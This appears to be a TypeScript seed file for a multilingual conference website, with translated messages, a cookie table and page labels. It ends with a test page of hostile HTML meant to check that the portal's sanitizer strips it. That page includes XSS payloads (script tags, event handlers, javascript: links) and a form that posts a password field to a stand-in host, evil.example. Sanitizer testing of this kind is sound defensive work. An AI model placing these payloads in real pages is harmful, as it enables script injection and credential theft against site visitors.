      el: '<p>Λάβαμε την εγγραφή σας στο {event}. Σας στείλαμε email επιβεβαίωσης με όλες τις λεπτομέρειες.</p><p><strong>Ημερομηνίες:</strong> {dates}</p><p>Προσθέστε την εκδήλωση στο ημερολόγιό σας για να μην τη χάσετε.</p>',
    },
  },
};

/** Cookie table: [name, purpose, duration] per language. */
export const COOKIE_TABLE: Record<keyof L, { head: [string, string, string]; rows: [string, string, string][] }> = {
  es: { head: ['Cookie', 'Finalidad', 'Duración'], rows: [['i18n_redirected', 'Recordar el idioma elegido', '1 año'], ['auth', 'Mantener la sesión iniciada', '30 días'], ['_ga', 'Analítica: distinguir visitantes', '2 años'], ['_gat', 'Analítica: limitar la frecuencia de peticiones', 'Unos segundos'], ['CONSENT', 'Vídeos de YouTube incrustados', '17 años']] },
  en: { head: ['Cookie', 'Purpose', 'Duration'], rows: [['i18n_redirected', 'Remember your language', '1 year'], ['auth', 'Keep you signed in', '30 days'], ['_ga', 'Analytics: tell visitors apart', '2 years'], ['_gat', 'Analytics: throttle the request rate', 'A few seconds'], ['CONSENT', 'Embedded YouTube videos', '17 years']] },
  pt: { head: ['Cookie', 'Finalidade', 'Duração'], rows: [['i18n_redirected', 'Lembrar o idioma escolhido', '1 ano'], ['auth', 'Manter a sessão iniciada', '30 dias'], ['_ga', 'Análise: distinguir visitantes', '2 anos'], ['_gat', 'Análise: limitar a frequência de solicitações', 'Alguns segundos'], ['CONSENT', 'Vídeos incorporados do YouTube', '17 anos']] },
  eus: { head: ['Cookiea', 'Xedea', 'Iraupena'], rows: [['i18n_redirected', 'Aukeratutako hizkuntza gogoratzea', 'Urte 1'], ['auth', 'Saioa irekita mantentzea', '30 egun'], ['_ga', 'Analitika: bisitariak bereiztea', '2 urte'], ['_gat', 'Analitika: eskaeren maiztasuna mugatzea', 'Segundo batzuk'], ['CONSENT', 'YouTubeko bideo txertatuak', '17 urte']] },
  fr: { head: ['Cookie', 'Finalité', 'Durée'], rows: [['i18n_redirected', 'Mémoriser la langue choisie', '1 an'], ['auth', 'Maintenir la session ouverte', '30 jours'], ['_ga', 'Mesure d’audience : distinguer les visiteurs', '2 ans'], ['_gat', 'Mesure d’audience : limiter la fréquence des requêtes', 'Quelques secondes'], ['CONSENT', 'Vidéos YouTube intégrées', '17 ans']] },
  el: { head: ['Cookie', 'Σκοπός', 'Διάρκεια'], rows: [['i18n_redirected', 'Απομνημόνευση της γλώσσας', '1 έτος'], ['auth', 'Διατήρηση της σύνδεσης', '30 ημέρες'], ['_ga', 'Στατιστικά: διάκριση επισκεπτών', '2 έτη'], ['_gat', 'Στατιστικά: περιορισμός συχνότητας αιτημάτων', 'Λίγα δευτερόλεπτα'], ['CONSENT', 'Ενσωματωμένα βίντεο YouTube', '17 έτη']] },
};

export const PAGE_LABELS = {
  organizing: { es: 'Comité organizador', en: 'Organising committee', pt: 'Comitê organizador', eus: 'Antolakuntza-batzordea', fr: 'Comité d’organisation', el: 'Οργανωτική επιτροπή' },
  scientific: { es: 'Comité científico', en: 'Scientific committee', pt: 'Comitê científico', eus: 'Batzorde zientifikoa', fr: 'Comité scientifique', el: 'Επιστημονική επιτροπή' },
  chair: { es: 'Presidencia', en: 'Chair', pt: 'Presidência', eus: 'Lehendakaritza', fr: 'Présidence', el: 'Πρόεδρος' },
  seeSessions: { es: 'Ver sesiones', en: 'See sessions', pt: 'Ver sessões', eus: 'Ikusi saioak', fr: 'Voir les sessions', el: 'Δείτε τις συνεδρίες' },
  edition: { es: '{attendees} asistentes · {sessions} sesiones', en: '{attendees} attendees · {sessions} sessions', pt: '{attendees} participantes · {sessions} sessões', eus: '{attendees} bertaratu · {sessions} saio', fr: '{attendees} participants · {sessions} sessions', el: '{attendees} συμμετέχοντες · {sessions} συνεδρίες' },
  firstEdition: { es: 'Esta es la primera edición.', en: 'This is the first edition.', pt: 'Esta é a primeira edição.', eus: 'Hau da lehen edizioa.', fr: 'Ceci est la première édition.', el: 'Αυτή είναι η πρώτη διοργάνωση.' },
  copyright: { es: '© {year} {org}. Todos los derechos reservados.', en: '© {year} {org}. All rights reserved.', pt: '© {year} {org}. Todos os direitos reservados.', eus: '© {year} {org}. Eskubide guztiak erreserbatuta.', fr: '© {year} {org}. Tous droits réservés.', el: '© {year} {org}. Με την επιφύλαξη παντός δικαιώματος.' },
} satisfies Record<string, L>;

/**
 * A page with hostile HTML (tenant demo, es only; other languages fall back to it). The portal
 * must keep the legitimate markup and drop every `xss-*` payload.
 */
export const HOSTILE_PAGE = {
  slug: 'pagina-de-prueba-html',
  title: 'Página de prueba HTML',
  description: 'Contenido con HTML hostil para comprobar el saneado.',
  content: [
    '<h2>Contenido legítimo</h2>',
    '<p>Un párrafo con <strong>negrita</strong>, <em>cursiva</em> y un <a href="https://www.example.com/" target="_blank" rel="noopener">enlace externo</a>.</p>',
    '<script>window.__xss = "xss-script"; alert("xss-script")</script>',
    '<img src="/media/none.png" alt="imagen rota" onerror="alert(\'xss-onerror\')">',
    '<p><a href="javascript:alert(\'xss-href\')">Enlace con javascript:</a> y <a href="JaVaScRiPt:alert(\'xss-href-case\')">otro</a></p>',
    '<style>body { display: none !important; } /* xss-style */</style>',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%;background:red;z-index:99999">xss-inline-style</p>',
    '<div onclick="alert(\'xss-onclick\')" onmouseover="alert(\'xss-onmouseover\')">Bloque con manejadores de eventos</div>',
    '<svg onload="alert(\'xss-svg\')"><circle r="10"></circle></svg>',
    '<form action="https://evil.example/steal"><input name="password" placeholder="xss-form"><button>Enviar</button></form>',
    '<iframe src="https://evil.example/phish" title="xss-iframe"></iframe>',
    '<object data="https://evil.example/x.swf">xss-object</object>',
    '<h3>Una lista</h3>',
    '<ul><li>Primer elemento</li><li>Segundo elemento</li></ul>',
    '<ol><li>Paso uno</li><li>Paso dos</li></ol>',
    '<h3>Una tabla</h3>',
    '<table><thead><tr><th>Hora</th><th>Sesión</th></tr></thead><tbody><tr><td>09:00</td><td>Inauguración</td></tr><tr><td>09:30</td><td>Ponencia magistral</td></tr></tbody></table>',
    '<h3>Un vídeo</h3>',
    '<iframe width="560" height="315" src="https://www.youtube.com/embed/M7lc1UVf-VE" title="Vídeo de YouTube" allow="accelerometer; encrypted-media; picture-in-picture" allowfullscreen></iframe>',
    '<p>Fin del contenido de prueba.</p>',
  ].join('\n'),
};
